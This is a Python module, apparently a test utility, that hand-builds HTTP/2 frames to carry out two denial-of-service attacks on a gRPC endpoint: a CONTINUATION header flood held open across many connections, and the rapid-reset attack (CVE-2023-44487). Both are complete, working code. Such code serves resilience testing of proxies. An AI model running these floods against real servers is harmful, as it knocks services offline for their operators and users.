"""HTTP/2 floods, written frame by frame.

- A header flood (:func:`header_flood`): connections that each open one gRPC call whose
  header block never ends, one header value growing by CONTINUATION frames to ``size``
  bytes, held open afterwards. gRPC's own server keeps such a value whole while it arrives
  (up to ~16 MiB), whatever its metadata limits say; a proxy that parses HTTP/2 refuses it
  at its buffer.
- A rapid reset (:func:`rapid_reset`, CVE-2023-44487): one connection opening calls and
  resetting each at once, in bulk, as fast as it can write, reading what comes back."""

from __future__ import annotations

import socket
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_HEADERS = 0x4
CANCEL = 8
_PIECE = 16 * 1024  # the smallest SETTINGS_MAX_FRAME_SIZE a server may set


def _integer(value: int, prefix_bits: int) -> bytes:
    """HPACK's integer with a ``prefix_bits`` prefix (RFC 7541 5.1), first byte's flags 0."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([value])
    out = [limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def _literal(name: bytes, value_length: int) -> bytes:
    """A literal header field without indexing, new name (RFC 7541 6.2.2), up to its value."""
    return b"\x00" + _integer(len(name), 7) + name + _integer(value_length, 7)


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _call_headers(path: str) -> bytes:
    """A gRPC call's header block (no key)."""
    return b"".join(
        _literal(name, len(value)) + value
        for name, value in [
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", path.encode()),
            (b":authority", b"gateway"),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        ]
    )


def opening(path: str, size: int) -> bytes:
    """The preface, SETTINGS and a HEADERS frame whose last header's value (``size`` bytes)
    is still to come."""
    block = _call_headers(path)
    return PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, 0, 1, block + _literal(b"x-flood", size))


@dataclass
class Flood:
    sent: list[int] = field(default_factory=list)  # bytes of the value each connection got out
    sockets: list[socket.socket] = field(default_factory=list)


def _one(address: tuple[str, int], path: str, size: int, flood: Flood, lock: threading.Lock) -> None:
    sock = socket.create_connection(address, timeout=30)
    with lock:
        flood.sockets.append(sock)
    sent = 0
    try:
        sock.sendall(opening(path, size))
        piece = b"a" * _PIECE
        while sent < size:
            n = min(_PIECE, size - sent)
            # the last piece does not end the block either: the header never completes
            sock.sendall(frame(CONTINUATION, 0, 1, piece[:n]))
            sent += n
    except OSError:
        pass  # refused part way (a proxy at its buffer): what got out is counted
    with lock:
        flood.sent.append(sent)


@contextmanager
def header_flood(
    target: str, connections: int, size: int, path: str = "/inference.GRPCInferenceService/ServerLive"
) -> Iterator[Flood]:
    """``connections`` sockets to ``target`` (host:port) each sending a header value of
    ``size`` bytes, all sent (or refused) when the block is entered; held open until it
    exits."""
    host, port = target.rsplit(":", 1)
    flood, lock = Flood(), threading.Lock()
    threads = [
        threading.Thread(target=_one, args=((host, int(port)), path, size, flood, lock), daemon=True)
        for _ in range(connections)
    ]
    try:
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=120)
        yield flood
    finally:
        for sock in flood.sockets:
            sock.close()


@dataclass
class Resets:
    streams: int = 0  # calls opened and reset
    answered: int = 0  # bytes the server sent back


@contextmanager
def rapid_reset(
    target: str, path: str = "/inference.GRPCInferenceService/ServerLive", batch: int = 200
) -> Iterator[Resets]:
    """One connection to ``target`` (host:port) opening calls to ``path`` and resetting
    each at once (HEADERS then RST_STREAM, ``batch`` pairs a write) while the block runs,
    reading what the server sends meanwhile (a client that reads nothing is only paused
    by the server's own flow control)."""
    host, port = target.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=10)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
    resets, stop = Resets(), threading.Event()
    block = _call_headers(path)

    def read() -> None:
        while not stop.is_set():
            try:
                data = sock.recv(1 << 20)
            except OSError:
                return
            if not data:
                return
            resets.answered += len(data)

    def write() -> None:
        stream = 1
        while not stop.is_set() and stream < 2**31 - 2 * batch:
            out = bytearray()
            for _ in range(batch):
                out += frame(HEADERS, END_HEADERS, stream, block)
                out += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                stream += 2
            try:
                sock.sendall(out)
            except OSError:
                return
            resets.streams += batch

    threads = [threading.Thread(target=work, daemon=True) for work in (read, write)]
    for thread in threads:
        thread.start()
    try:
        yield resets
    finally:
        stop.set()
        sock.close()
        for thread in threads:
            thread.join(timeout=10)
